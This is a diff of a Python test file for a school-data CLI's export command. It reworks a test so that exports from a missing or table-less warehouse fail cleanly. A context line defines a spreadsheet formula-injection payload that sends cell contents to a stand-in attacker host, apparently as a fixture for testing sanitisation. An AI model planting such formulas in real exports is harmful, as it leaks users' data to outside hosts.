@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import csv
+import json
 from datetime import date
 from pathlib import Path
 from typing import Any
@@ -10,7 +11,8 @@ from typing import Any
 import pandas as pd
 import pyarrow.parquet as pq
 import pytest
-from sqlalchemy import Engine
+from sqlalchemy import Engine, inspect
+from sqlalchemy.engine import make_url
 
 from schoolnet.cli.main import main
 from schoolnet.core.registry import Esa, School
@@ -22,7 +24,7 @@ from schoolnet.report.export import (
     read_snapshot,
     write_csv,
 )
-from schoolnet.warehouse import EsaDay, merge_day
+from schoolnet.warehouse import EsaDay, create_warehouse_engine, merge_day
 
 D1, D2 = date(2018, 1, 3), date(2018, 1, 4)
 HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"คลิก")'
@@ -222,10 +224,38 @@ def test_export_command(
 
 
 def test_export_command_on_a_warehouse_without_tables(
-    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+    empty_url: str,
+    tmp_path: Path,
+    capsys: pytest.CaptureFixture[str],
+    monkeypatch: pytest.MonkeyPatch,
 ) -> None:
-    url = f"sqlite:///{tmp_path / 'empty.db'}"
-    assert main(["export", "2018-01-03", "--format", "csv", "--url", url]) == 1
-    assert capsys.readouterr().err == (
-        f"schoolnet export: cannot read the warehouse at {url}: no such table: snapshot\n"
+    """A SQLite file that is not there, or a PostgreSQL database without schoolnet tables, is
+    refused in one line, from --url or from the settings' connection, and nothing is made."""
+    out = tmp_path / "out"
+    out.mkdir()
+    parsed = make_url(empty_url)
+    sqlite = parsed.get_backend_name() == "sqlite"
+    # The message names the SQLite file, or the PostgreSQL URL as the engine spells it.
+    postgres = parsed.set(drivername="postgresql+psycopg").render_as_string()
+    where = str(parsed.database) if sqlite else postgres
+    monkeypatch.setenv(
+        "AIRFLOW_CONN_SCHOOLNET_WAREHOUSE",
+        json.dumps({"conn_type": "generic", "extra": {"sqlalchemy_url": empty_url}}),
     )
+    for url in (["--url", empty_url], []):  # given, then the settings' connection
+        code = main(["export", "2018-01-03", "--format", "csv", "--out", str(out), *url])
+        assert code == 1
+        (line,) = capsys.readouterr().err.splitlines()
+        assert line.startswith(f"schoolnet export: no warehouse at {where}: ")
+        assert "schoolnet db upgrade" in line
+    assert list(out.iterdir()) == []
+    if sqlite:
+        assert not (tmp_path / "warehouse.db").exists()  # no empty database in its place
+        (tmp_path / "warehouse.db").touch()  # an empty file: a database with no tables
+        assert main(["export", "2018-01-03", "--format", "csv", "--url", empty_url]) == 1
+        assert "holds no schoolnet tables" in capsys.readouterr().err
+    engine = create_warehouse_engine(empty_url)
+    try:
+        assert inspect(engine).get_table_names() == []  # no table was created
+    finally:
+        engine.dispose()
